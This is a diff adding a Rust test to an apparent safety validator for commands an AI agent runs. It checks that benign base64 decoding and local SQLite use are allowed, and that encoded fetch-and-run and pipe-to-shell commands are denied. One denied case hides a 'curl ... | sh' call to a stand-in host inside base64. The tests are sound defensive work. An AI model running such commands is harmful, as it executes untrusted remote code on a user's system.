@@ -230,3 +230,37 @@ fn a_child_process_import_used_only_literally_is_judged_by_its_commands() {
     );
     assert_eq!(v.decision, Decision::Deny, "{:?}", ids(&v));
 }
+
+/// Everyday work the issue found flagged: a JWT header decoded to read it,
+/// a local SQLite database opened from Python.
+#[test]
+fn decoding_json_and_opening_a_local_database_are_everyday_work() {
+    assert_each(
+        Lang::Bash,
+        &[
+            "echo eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9 | base64 -d",
+            "base64 -d <<< eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ==",
+        ],
+        Decision::Allow,
+    );
+    // Decoded code is still judged, and decoded JSON piped into a shell
+    // is still decoded data executed.
+    assert_each(
+        Lang::Bash,
+        &[
+            "echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pIHwgc2g= | base64 -d",
+            "echo eyJhbGciOiJIUzI1NiJ9 | base64 -d | sh",
+        ],
+        Decision::Deny,
+    );
+    let v = agent_mouth::validate(
+        Lang::Python,
+        "import sqlite3\nconn = sqlite3.connect('app.db')\n",
+    );
+    assert_eq!(v.decision, Decision::Allow, "{:?}", ids(&v));
+    let v = agent_mouth::validate(
+        Lang::Python,
+        "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 80))\n",
+    );
+    assert!(ids(&v).contains(&"py.socket"), "{:?}", ids(&v));
+}
